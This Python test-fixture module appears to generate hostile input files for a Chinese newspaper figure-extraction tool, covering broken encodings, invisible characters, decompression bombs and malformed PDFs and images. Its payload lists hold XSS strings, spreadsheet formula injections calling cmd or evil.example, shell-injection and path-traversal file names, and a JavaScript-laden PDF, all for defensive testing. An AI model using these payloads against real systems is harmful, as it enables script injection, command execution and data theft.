"""Builds files that no newspaper sent, each with what a run should say of it.

Nothing dangerous is kept in the repository; all is made when it is needed. One family of files is
one function; `all_files` is the table of them all.
"""

from __future__ import annotations

import os
import random
import socket
import struct
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from importlib.util import find_spec
from pathlib import Path

SENTENCE = "城北开发区2023年完成工业总产值320亿元，同比增长8.5%。"
FACTS = (("32000000000", "CNY", "level"), ("8.5", "%", "growth"))
PARAGRAPH = (
    SENTENCE + "其中高新技术企业超过46家，研究与试验发展经费支出占地区生产总值的比重为3.4%，"
    "比上年提高0.2个百分点；全年新增专利授权1286件，技术合同成交额达到12.6亿元。\n"
)
TRADITIONAL = (
    "城北開發區2023年完成工業總產值320億元，同比增長8.5%。其中高新技術企業超過46家，研究與試驗"
    "發展經費支出占地區生產總值的比重為3.4%，比上年提高0.2個百分點；全年新增專利授權1286件，"
    "技術合同成交額達到12.6億元。\n"
)
BIDI = "\u202e\u2066\u200f\u200b\u2060\ufeff\u00ad"

DONE, PARTIAL, FAILED, SKIPPED = "done", "partial", "failed", "skipped"


@dataclass(frozen=True, slots=True)
class Hostile:
    """A file: its name, what makes it, the status and the codes (at least these) it must get.

    may: codes it may get besides.  numbers: whether its digits must all be accounted for.
    facts: facts (value, base unit, kind) that must be read in it, in any order.
    """

    name: str
    make: Callable[[Path], None]
    status: str = DONE
    codes: frozenset[str] = frozenset()
    may: frozenset[str] = frozenset()
    numbers: bool = True
    facts: tuple[tuple[str, str, str], ...] = ()


def _bytes(data: bytes) -> Callable[[Path], None]:
    return lambda path: (path.write_bytes(data), None)[1]


def _text(text: str) -> Callable[[Path], None]:
    return _bytes(text.encode("utf-8", "surrogatepass"))


def _hostile(name: str, data: bytes | str, status: str = DONE, *codes: str) -> Hostile:
    make = _text(data) if isinstance(data, str) else _bytes(data)
    return Hostile(name, make, status, frozenset(codes))


# Encodings and damage

ENCODINGS = (
    *(("utf-8", PARAGRAPH), ("utf-8-sig", PARAGRAPH), ("gb18030", PARAGRAPH), ("gbk", PARAGRAPH)),
    *(("utf-16", PARAGRAPH), ("utf-16-be", PARAGRAPH), ("big5", TRADITIONAL)),
    *(("big5hkscs", TRADITIONAL), ("utf-8", TRADITIONAL)),
)
# The marks that begin a file in UTF-16 without Python's help, and those of UTF-8 once more.
_MARKS = {"utf-16-be": b"\xfe\xff", "utf-8-sig": b"", "utf-8": b"\xef\xbb\xbf"}


def _damages(data: bytes, seed: int) -> Iterator[tuple[str, bytes]]:
    """The ways a file is damaged on its way; never in its first sentences' figures."""
    middle = len(data) * 2 // 3
    flipped = bytes([data[middle] ^ (1 << seed % 8)])
    yield "whole", data
    yield "lost", data[:middle] + data[middle + 1 :]
    yield "flipped", data[:middle] + flipped + data[middle + 1 :]
    yield "cut", data[:-5]
    yield "ends", data.replace(b"\n", b"\r\n")


def encodings() -> Iterator[Hostile]:
    """Every encoding that newspapers come in, whole and damaged."""
    for number, (encoding, text) in enumerate(ENCODINGS):
        data = _MARKS.get(encoding, b"") + (text * 3).encode(encoding)
        for damage, damaged in _damages(data, number):
            wide = encoding.startswith("utf-16")
            if wide and damage == "ends":
                damaged = data.decode("utf-16").replace("\n", "\r\n").encode("utf-16")
            if wide and damage in ("lost", "cut"):
                continue  # half of a UTF-16 file that lost a byte is another text
            yield Hostile(
                f"{number}-{encoding}-{damage}.txt",
                _bytes(damaged),
                DONE,
                may=frozenset({"I010", "D003", "C001", "Q001"}),
                facts=FACTS,
            )
        if encoding in _MARKS:
            yield Hostile(
                f"{number}-{encoding}-twice.txt",
                _bytes(_MARKS[encoding] + data),
                may=frozenset({"D003"}),
                facts=FACTS,
            )


def undecodable() -> list[Hostile]:
    """Bytes that are no text, or hardly."""
    both = (SENTENCE * 3 + "\n").encode() + (SENTENCE * 3 + "\n").encode("gb18030")
    holes = b"\xff".join(character.encode() for character in SENTENCE)
    magics = {
        "zip": b"PK\x03\x04",
        "gzip": b"\x1f\x8b\x08",
        "seven": b"7z\xbc\xaf\x27\x1c",
        "rar": b"Rar!\x1a\x07",
        "elf": b"\x7fELF\x02",
        "exe": b"MZ\x90\x00",
        "ole": b"\xd0\xcf\x11\xe0",
        "sqlite": b"SQLite format 3\x00",
        "jpeg": b"\xff\xd8\xff\xe0",
        "gif": b"GIF89a",
        "tiff": b"II*\x00",
        "mac": b"MM\x00*",
        "pdf": b"%PDF-1.7\n",
    }
    return [
        _hostile("empty.txt", b"", FAILED, "I001"),
        _hostile("blank.txt", b" \n\r\n\t", FAILED, "I001"),
        _hostile("mark.txt", b"\xef\xbb\xbf", FAILED, "I001"),
        _hostile("mark16.txt", b"\xff\xfe", FAILED, "I001"),
        _hostile("nulls.txt", bytes(5000), FAILED, "I001"),
        _hostile("holes.txt", holes, FAILED, "I011"),
        _hostile("half.txt", (SENTENCE * 9).encode()[:-1], DONE, "I010"),
        _hostile("mixed.txt", both),
        _hostile("picture.txt", png(8, 8), FAILED, "I002"),
        _hostile("bomb.txt", zlib.compress(b"0" * 10**7), FAILED, "I002"),
        *(
            _hostile(f"magic-{kind}.txt", magic + SENTENCE.encode(), FAILED, "I002")
            for kind, magic in magics.items()
        ),
        *(
            _hostile(f"noise{seed}.txt", random.Random(seed).randbytes(5000), FAILED, "I002")
            for seed in range(6)
        ),
    ]


# Characters that are not seen

INVISIBLE = (
    *("\x00\x01\x07\x08\x0e\x1b\x1f\x7f\x80\x86\x9f"),
    *("\u00ad\u034f\u061c\u115f\u1160\u17b4\u180b\u180e"),
    *("\u200b\u200c\u200d\u200e\u200f\u202a\u202b\u202c\u202d\u202e"),
    *("\u2060\u2061\u2064\u2066\u2067\u2068\u2069\u206a\u206f\u3164"),
    *("\ufe00\ufe0f\ufeff\uffa0\ufff9\ufffb"),
    *("\U000e0001\U000e0020\U000e0041\U000e007f\U000e0100\U000e01ef"),
)


def invisible() -> Iterator[Hostile]:
    """Each character that is not seen: between all others, and inside the number."""
    for character in INVISIBLE:
        code = f"{ord(character):05x}"
        split = SENTENCE.replace("320", f"3{character}2{character}0").replace(
            "8.5", f"8{character}.5"
        )
        yield Hostile(f"inside-{code}.txt", _text(split), facts=FACTS)
        if character < " ":  # a file half of which is control characters is no text
            yield _hostile(f"between-{code}.txt", character.join(SENTENCE), FAILED, "I002")
        else:
            yield Hostile(f"between-{code}.txt", _text(character.join(SENTENCE)), facts=FACTS)
    yield Hostile("many.txt", _text(BIDI.join(SENTENCE)), facts=FACTS)
    yield Hostile("tags.txt", _text(SENTENCE + "\U000e0041" * 50), facts=FACTS)


def characters() -> list[Hostile]:
    """Characters that are seen and stand where none is expected."""
    return [
        Hostile("private.txt", _text(SENTENCE + "\ue000\U0010fffd"), facts=FACTS),
        Hostile("unassigned.txt", _text(SENTENCE + "\u0378\U000effff\uffff"), facts=FACTS),
        Hostile(
            "surrogate.txt",
            _bytes(SENTENCE.encode() * 20 + b"\xed\xa0\x80"),
            codes=frozenset({"I010"}),
            facts=FACTS,
        ),
        Hostile("combining.txt", _text("3" + "\u0301" * 5000 + "亿元。"), may=frozenset({"Q001"})),
        Hostile("arabic.txt", _text("٣٤٥ ३४५ ３４５ 𝟛𝟜𝟝 ③④⑤ ½ ³ ㊿ Ⅻ"), may=frozenset({"Q001"})),
        Hostile(
            "wide.txt",
            _text(SENTENCE.translate({c: c + 0xFEE0 for c in range(0x25, 0x3A)})),
            facts=FACTS,
        ),
        Hostile("crlf.txt", _text(SENTENCE + "\r\n" + SENTENCE + "\r" + SENTENCE), facts=FACTS),
        Hostile(
            "forms.txt",
            _text(f"{SENTENCE}\f{SENTENCE}\x0b{SENTENCE}\u2028{SENTENCE}\u0085{SENTENCE}\x1d"),
            facts=FACTS,
        ),
        Hostile("narrow.txt", _text("\n".join(SENTENCE * 5))),
        Hostile("spaced.txt", _text(" ".join(SENTENCE * 5)), facts=FACTS),
        Hostile("doubled.txt", _text("".join(c * 2 for c in SENTENCE))),
        _hostile("words.txt", "树都绿了。", DONE, "C001"),
        _hostile("marks.txt", "。。。！！？？（（（“”", DONE, "C001"),
    ]


# What other programs run

MARKUP = (
    "</script><img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>1</a>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "<!--<script>",
    "]]><script>alert(1)</script>",
    "<style>*{display:none}</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><input>",
    "<template><script>alert(1)</script></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<%= 1+1 %>",
    "\u2028<script>alert(1)</script>\u2029",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<bdo dir=rtl>",
    "data:text/html,<script>alert(1)</script>",
)
FORMULAS = (
    "=1+1",
    "=cmd|'/c calc'!A1",
    "+1+3",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","x")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"1")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "'=1+1",
    '"=1+1"',
    ";=1+1",
    ",=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "=\u200b1+1",
    "%0A=1+1",
    "{=1+1}",
    "=1+1|2",
)


def payloads() -> Iterator[Hostile]:
    """Text that browsers and spreadsheets would run."""
    unsure = frozenset({"Q001"})
    for number, markup in enumerate(MARKUP):
        yield Hostile(f"markup{number}.txt", _text(f"{markup}{SENTENCE}"), may=unsure)
        yield Hostile(
            f"headline{number}.txt", _text(f"{markup}\n\n　　本报讯　{SENTENCE}\n"), may=unsure
        )
    for number, formula in enumerate(FORMULAS):
        yield Hostile(f"formula{number}.txt", _text(f"{formula}\n{SENTENCE}"), may=unsure)


# Names


def names() -> Iterator[str]:
    """File names that systems, shells, browsers and spreadsheets stumble over."""
    yield from (
        "a b.txt",
        " lead.txt",
        "trail .txt",
        "-o.txt",
        "--help.txt",
        "'; rm -rf x;'.txt",
        "$(id).txt",
        "`id`.txt",
        "a\nb.txt",
        "a\rb.txt",
        "a\tb.txt",
        "a\x1b[31mb.txt",
        "a\x07b.txt",
        "a\x7fb.txt",
        "\u202etxt.exe.txt",
        "\u2066a\u2069.txt",
        "a\u200bb.txt",
        "a\u2028b.txt",
        "\ufeffa.txt",
        "版面　第１版.txt",
        "é.txt",
        "e\u0301.txt",
        "😀.txt",
        "CON.txt",
        "nul.txt",
        "AUX.txt",
        "COM1.txt",
        "LPT9.txt",
        "x" * 200 + ".txt",
        "版" * 83 + ".txt",
        "TEXT.TXT",
        "text.txt",
        "no_ending",
        "a..txt.txt",
        "a..\\..\\win.ini.txt",
        "%2e%2e%2fetc%2fpasswd.txt",
        "C:\\temp\\x.txt",
        "~root.txt",
        "~.txt",
        "a.b.c.txt",
        "a;b.txt",
        "a|b.txt",
        "a*b?.txt",
        "a%s%n.txt",
        "{0}.txt",
        "NaN.txt",
        "null.txt",
        "=1+1.txt",
        "=cmd|' calc'!A1.txt",
        "+1.txt",
        "-1.txt",
        "@SUM(1).txt",
        "'=1.txt",
        '"q".txt',
        "<b>.txt",
        "<img src=x onerror=alert(1)>.txt",
        "&amp;.txt",
        "a'onx='1.txt",
        "]]>.txt",
        "a,b.txt",
    )


def odd_names() -> list[Hostile]:
    """Pages with such names; those that are no UTF-8 too, where a system has them."""
    found = [Hostile(name, _text(SENTENCE), facts=FACTS) for name in names()]
    if os.name == "posix":
        for data in ("版面.txt".encode("gb18030"), b"\xff\xfe\x80.txt", b"caf\xe9.txt"):
            found.append(Hostile(os.fsdecode(data), _text(SENTENCE), facts=FACTS))
    return found


# Things that are no pages


def _socket(path: Path) -> None:
    folder = os.open(path.parent, os.O_RDONLY)
    try:
        # the path of a socket is short; its folder's may be long
        with socket.socket(socket.AF_UNIX) as made:
            made.bind(f"/proc/self/fd/{folder}/{path.name}")
    finally:
        os.close(folder)


def _loop(path: Path) -> None:
    path.symlink_to(path.name)


def _folder(path: Path) -> None:
    path.mkdir()
    (path / "up").symlink_to("..")
    (path / "self").symlink_to(".")


def no_pages() -> list[Hostile]:
    """Folders, links, pipes and kinds of files that are not read."""
    found = [
        _hostile("archive.zip", b"PK\x03\x04" + bytes(50), SKIPPED, "I004"),
        _hostile("book.docx", b"PK\x03\x04" + bytes(50), SKIPPED, "I004"),
        _hostile("book.epub", b"PK\x03\x04" + bytes(50), SKIPPED, "I004"),
        _hostile("page.html", "<p>1</p>", SKIPPED, "I004"),
        _hostile("drawing.svg", "<svg/>", SKIPPED, "I004"),
        _hostile("run.exe", b"MZ", SKIPPED, "I004"),
        _hostile("page.txt.gz", b"\x1f\x8b", SKIPPED, "I004"),
        _hostile("gone.json", "[", FAILED, "I032"),
        _hostile("deep.json", "[" * 100_000, FAILED, "I032"),
        _hostile("other.json", '{"a": 1}', FAILED, "I032"),
        _hostile("number.json", "1" * 5000, FAILED, "I032"),
        _hostile("nan.json", '{"texts": NaN}', FAILED, "I032"),
        _hostile("half.json", b'{"a": "\xff\xfe"}', FAILED, "I032"),
    ]
    if os.name == "posix":
        found += [
            Hostile("fifo.txt", lambda path: os.mkfifo(path), SKIPPED, frozenset({"I005"})),
            Hostile("fifo.pdf", lambda path: os.mkfifo(path), SKIPPED, frozenset({"I005"})),
            Hostile(
                "leave.txt",
                lambda path: path.symlink_to("/etc/hostname"),
                SKIPPED,
                frozenset({"I005"}),
            ),
            Hostile(
                "zeros.txt", lambda path: path.symlink_to("/dev/zero"), SKIPPED, frozenset({"I005"})
            ),
            Hostile("up.txt", lambda path: path.symlink_to(".."), SKIPPED, frozenset({"I005"})),
            Hostile("loop.txt", _loop, SKIPPED, frozenset({"I003"})),
            Hostile(
                "nowhere.txt",
                lambda path: path.symlink_to("nothing.txt"),
                SKIPPED,
                frozenset({"I003"}),
            ),
        ]
    if Path("/proc/self/fd").is_dir():
        found.append(Hostile("socket.txt", _socket, SKIPPED, frozenset({"I005"})))
    return found


# Numbers and lengths


def numerals() -> list[Hostile]:
    """Numbers that no newspaper prints."""
    unsure = frozenset({"Q001", "D003", "D001", "D004", "D005"})
    texts = {
        "digits": "1" * 5000 + "亿元。",
        "four-hundred": "产值" + "1" * 400 + "亿元。",
        "point": "1." * 3000 + "1亿元。",
        "commas": "1,111" * 3000 + "亿元。",
        "small": "0." + "0" * 2000 + "1%",
        "leading": "产值" + "0" * 300 + "5亿元。",
        "chinese": "一二三四五六七八九十百千万亿" * 400,
        "tens": "十" * 3000 + "家",
        "zeros-han": "〇" * 3000 + "年",
        "yi": "增长1" + "亿" * 2000 + "元。",
        "signs": "-" * 3000 + "5%" + "—" * 3000 + "8亿元",
        "percent": "增长" + "%" * 3000 + "5" + "%" * 3000,
        "dates": "2024年13月45日9999年0月0日0000年",
        "years": "2023年" * 2000,
        "slashes": "1/0 3/0 0/0 1:0 占比0比0。",
        "fractions": "零分之一，百分之零，零分之零，百分之百分之三。",
        "power": "3×10^99，3×10^-99，2×10⁹⁹千瓦。",
        "product": "9×" * 500 + "9兆瓦",
        "ratio": "1:" * 500 + "1",
        "doubling": "翻二十番，翻了九十九番，翻一百番。",
        "exponent": "1e400亿元 1e-400亿元 1E5家 0x10家 1_000家 ∞亿元 NaN亿元",
        "arabic-comma": "1,23,456.78.9亿元",
        "hyphens": "1-2-3-4-5-6-7-8-9-0" * 100,
        "plus": "1+" * 1000 + "1",
        "units": "320亿亿万千百十元，320元元元，320%%‰。",
        "clock": "99:99:99，25时61分61秒，-1小时-1分。",
        "nested": "“" * 50 + "1+3" + "”" * 50 + "《" * 50 + "2" + "》" * 50,
    }
    return [Hostile(f"{name}.txt", _text(text), may=unsure) for name, text in texts.items()]


def lengths() -> list[Hostile]:
    """Much of one thing."""
    return [
        Hostile("open.txt", _text("（" * 3000 + SENTENCE)),
        Hostile("quotes.txt", _text("“" * 3000 + SENTENCE + "”" * 10)),
        Hostile("titles.txt", _text("《" * 3000 + SENTENCE)),
        Hostile("rise.txt", _text("增" * 20_000 + "长8.5%。")),
        Hostile("list.txt", _text("甲、" * 4000 + "乙分别增长1%、2%。")),
        Hostile("and.txt", _text("和" * 5000 + SENTENCE)),
        Hostile("zones.txt", _text("高新区" * 2000 + SENTENCE)),
        Hostile("companies.txt", _text("有限公司" * 2000 + SENTENCE)),
        Hostile("each.txt", _text("甲乙丙分别" * 1000 + "增长1%、2%。"), may=frozenset({"Q001"})),
        Hostile("lines.txt", _text("\n" * 20_000 + SENTENCE), facts=FACTS),
        Hostile("blanks.txt", _text(" " * 20_000 + SENTENCE), facts=FACTS),
        Hostile("wide-blanks.txt", _text("\u3000" * 20_000 + SENTENCE), facts=FACTS),
        Hostile("tabs.txt", _text("\t" * 20_000 + SENTENCE), facts=FACTS),
        Hostile("latin.txt", _text("A" * 20_000 + SENTENCE), may=frozenset({"Q001"})),
        Hostile("hash.txt", _text("#" * 20_000 + SENTENCE)),
        Hostile("stars.txt", _text("**" * 10_000 + SENTENCE)),
    ]


# PDFs and pictures


def png(width: int, height: int, data: bytes = b"") -> bytes:
    """A grey picture that says it has this size. data: its pixels as PNG packs them."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        check = zlib.crc32(kind + body)
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", check)

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    pixels = chunk(b"IDAT", data) if data else b""
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + pixels + chunk(b"IEND", b"")


def _pdf(*objects: bytes, trailer: bytes = b"/Root 1 0 R") -> bytes:
    """A PDF of these objects, numbered from 1, with a table of their places."""
    parts = [b"%PDF-1.7\n"]
    places = []
    for number, body in enumerate(objects, 1):
        places.append(sum(map(len, parts)))
        parts.append(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    start = sum(map(len, parts))
    parts.append(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    parts += [b"%010d 00000 n \n" % place for place in places]
    parts.append(b"trailer << /Size %d %s >>\n" % (len(objects) + 1, trailer))
    parts.append(b"startxref\n%d\n%%%%EOF\n" % start)
    return b"".join(parts)


_CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
_PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def pdf_page(content: bytes, *, box: bytes = b"0 0 600 800", filters: bytes = b"") -> bytes:
    """A PDF of one page with this content. filters: how the content is packed."""
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [%s] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>"
    )
    stream = b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), filters, content)
    return _pdf(_CATALOG, _PAGES, page % box, stream, _FONT)


_LINE = b"BT /F1 12 Tf 72 700 Td (GDP 320.5 in 2023, up 8.5%) Tj ET"
FLATE = b"/Filter /FlateDecode"


def pdfs() -> list[Hostile]:
    """PDFs that are broken, locked, endless, or larger inside than outside."""
    if find_spec("pypdfium2") is None:
        return [_hostile("any.pdf", pdf_page(_LINE), SKIPPED, "I004")]
    whole = pdf_page(_LINE)
    locked = (
        b"/Root 1 0 R /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <%s> /U <%s> >>"
        b" /ID [<%s> <%s>]" % (b"41" * 32, b"42" * 32, b"00" * 16, b"00" * 16)
    )
    unsure = frozenset({"Q001", "C001", "I024"})
    bomb = zlib.compress(b" " * 50_000_000, 9)
    twice = zlib.compress(zlib.compress(b" " * 20_000_000, 9), 9)
    glyphs = zlib.compress(b"BT /F1 9 Tf " + b"(aaaaaaaaaa) Tj " * 60_000 + b"ET", 9)
    return [
        _hostile("empty.pdf", b"", FAILED, "I001"),
        _hostile("words.pdf", SENTENCE, FAILED, "I029"),
        _hostile("head.pdf", b"%PDF-1.7\n", FAILED, "I021"),
        _hostile("cut.pdf", whole[: len(whole) // 3], FAILED, "I021"),
        _hostile("noise.pdf", b"%PDF-1.7\n" + random.Random(9).randbytes(20_000), FAILED, "I021"),
        _hostile(
            "no-pages.pdf", _pdf(_CATALOG, b"<< /Type /Pages /Kids [] /Count 0 >>"), FAILED, "I021"
        ),
        _hostile("locked.pdf", _pdf(_CATALOG, _PAGES, b"<< >>", trailer=locked), FAILED, "I020"),
        _hostile("glyphs.pdf", pdf_page(glyphs, filters=FLATE), FAILED, "I023"),
        Hostile("plain.pdf", _bytes(whole), may=unsure),
        _hostile("table-lost.pdf", whole[: whole.index(b"xref")], FAILED, "I021"),
        Hostile(
            "loop.pdf",
            _bytes(_pdf(_CATALOG, b"<< /Type /Pages /Kids [2 0 R] /Count 9 >>")),
            FAILED,
            frozenset({"I021"}),
        ),
        Hostile("spaces.pdf", _bytes(pdf_page(bomb, filters=FLATE)), may=unsure),
        Hostile(
            "twice.pdf",
            _bytes(pdf_page(twice, filters=b"/Filter [/FlateDecode /FlateDecode]")),
            may=unsure,
        ),
        Hostile("states.pdf", _bytes(pdf_page(b"q " * 200_000)), may=unsure),
        Hostile("vast.pdf", _bytes(pdf_page(_LINE, box=b"0 0 1e9 1e9")), may=unsure),
        Hostile("nothing.pdf", _bytes(pdf_page(_LINE, box=b"0 0 0 0")), may=unsure),
        Hostile(
            "script.pdf",
            _bytes(
                _pdf(
                    b"<< /Type /Catalog /Pages 2 0 R"
                    b" /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
                    _PAGES,
                    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
                )
            ),
            may=unsure,
        ),
        Hostile(
            "title.pdf",
            _bytes(
                _pdf(
                    _CATALOG,
                    _PAGES,
                    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
                    b"<< /Title (</script><img src=x onerror=alert\\(1\\)>) >>",
                    trailer=b"/Root 1 0 R /Info 4 0 R",
                )
            ),
            may=unsure,
        ),
        Hostile(
            "many.pdf",
            _bytes(
                _pdf(
                    _CATALOG,
                    b"<< /Type /Pages /Kids [%s] /Count 5000 >>" % (b"3 0 R " * 5000),
                    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
                )
            ),
            FAILED,
            frozenset({"I033"}),
            unsure,
        ),
    ]


def pictures() -> list[Hostile]:
    """Pictures that say more than they hold."""
    if find_spec("PIL") is None:
        return [_hostile("any.png", png(8, 8), SKIPPED, "I024")]
    grey = zlib.compress(b"\x00" * (301 * 300), 9)
    return [
        _hostile("empty.png", b"", FAILED, "I001"),
        _hostile("words.png", SENTENCE, FAILED, "I029"),
        _hostile("vast.png", png(20_000, 20_000), FAILED, "I025"),
        _hostile("vaster.png", png(2**31 - 1, 2**31 - 1), FAILED, "I025"),
        _hostile("long.png", png(1, 50_000), FAILED, "I026"),
        _hostile("no-pixels.png", png(300, 300), FAILED, "I026"),
        _hostile("cut.png", png(300, 300, grey)[:80], FAILED, "I026"),
        _hostile("flat.png", png(0, 0), FAILED, "I026"),
        _hostile("cut.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF", FAILED, "I026"),
        _hostile("cut.tif", b"II*\x00\x08\x00\x00\x00", FAILED, "I026"),
        _hostile("loop.tif", b"II*\x00\x08\x00\x00\x00\x00\x00\x08\x00\x00\x00", FAILED, "I026"),
        _hostile("cut.webp", b"RIFF\x10\x00\x00\x00WEBPVP8 ", FAILED, "I026"),
        _hostile("swap.png", b"\xff\xd8\xff\xe0\x00\x10JFIF", FAILED, "I026"),
    ]


def sidecars() -> list[Hostile]:
    """Pages whose sidecar is no good: the page is read all the same."""

    def made(text: str | bytes) -> Callable[[Path], None]:
        data = text.encode() if isinstance(text, str) else text

        def make(path: Path) -> None:
            path.write_text(SENTENCE, encoding="utf-8")
            path.with_name(path.name + ".meta.toml").write_bytes(data)

        return make

    bad = {
        "syntax": "date = ",
        "binary": b"\xff\xfe\x00",
        "unknown": 'script = "1"',
        "day": 'date = "2024-02-30"',
        "year": "date = 99999",
        "kind": "paper = [1, 2]",
        "truth": "page = true",
        "deep": "a = " + "[" * 5000,
    }
    found = [
        Hostile(f"sidecar-{name}.txt", made(text), PARTIAL, frozenset({"I012"}), facts=FACTS)
        for name, text in bad.items()
    ]
    found.append(
        Hostile("sidecar-markup.txt", made('paper = "</script><b>"\npage = "=1+1"'), facts=FACTS)
    )
    return found


def all_files() -> list[Hostile]:
    """Every hostile file that can be made on this system, each name once."""
    return [
        *encodings(),
        *undecodable(),
        *invisible(),
        *characters(),
        *payloads(),
        *odd_names(),
        *no_pages(),
        *numerals(),
        *lengths(),
        *pdfs(),
        *pictures(),
        *sidecars(),
    ]
